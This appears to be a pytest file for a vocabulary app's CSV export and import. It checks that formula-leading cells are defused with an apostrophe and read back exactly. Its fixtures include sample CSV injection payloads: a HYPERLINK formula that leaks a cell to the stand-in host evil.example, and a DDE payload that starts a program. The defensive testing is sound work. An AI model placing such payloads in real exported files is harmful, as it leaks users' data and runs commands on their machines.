"""A word a spreadsheet would run as a formula: exported as text, and read back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

from effect_desktop.bootstrap import Profile
from effect_desktop.interchange.csv_export import export_words_to

from .conftest import word_rows
from .test_csv_import import import_file

HOSTILE = [
    {"text": '=HYPERLINK("http://evil.example/?leak="&B2,"click me")', "meaning": "meaning"},
    {"text": "=cmd|' /C calc'!A0", "meaning": "+1+2", "category": "=1+1", "tags": ["@SUM(1+1)", "-2+3"]},
    {"text": "-tion", "meaning": "名詞を作る接尾辞"},
    {"text": "'=already quoted", "meaning": "''@twice"},
    {"text": "'tis", "meaning": "it is"},  # an apostrophe before no formula is the word's own
]


def test_formulas_are_exported_as_text_and_read_back_exactly(profile: Profile, tmp_path: Path) -> None:
    """out.csv held `=cmd|' /C calc'!A0,+1+2,=1+1,"@SUM(1+1),-2+3"` as they were: Excel and LibreOffice
    run them (HYPERLINK sends the neighbouring cell away when clicked; DDE offers to start a program)."""
    profile.service.create_words(HOSTILE)
    path = tmp_path / "out.csv"
    export_words_to(profile.queries, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    cells = [cell for row in rows for cell in row[:4] if cell]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {row[0] for row in rows} == {'\'=HYPERLINK("http://evil.example/?leak="&B2,"click me")',
                                       "'=cmd|' /C calc'!A0", "'-tion", "''=already quoted", "'tis"}
    before = word_rows(profile)
    for word in profile.queries.words():
        profile.service.delete_word(word.word_id)
    assert import_file(profile, path).created == len(HOSTILE)
    assert word_rows(profile) == before


def test_a_hand_made_list_defused_with_an_apostrophe_imports_the_text_meant(profile: Profile,
                                                                           tmp_path: Path) -> None:
    """A list typed in Excel with '-tion (so Excel shows -tion, not #NAME?) imports the suffix."""
    path = tmp_path / "suffixes.csv"
    path.write_text("text,meaning\n'-tion,名詞\n'-ly,副詞\n", encoding="utf-8")
    assert import_file(profile, path).created == 2
    assert sorted(text for text, *_ in word_rows(profile)) == ["-ly", "-tion"]
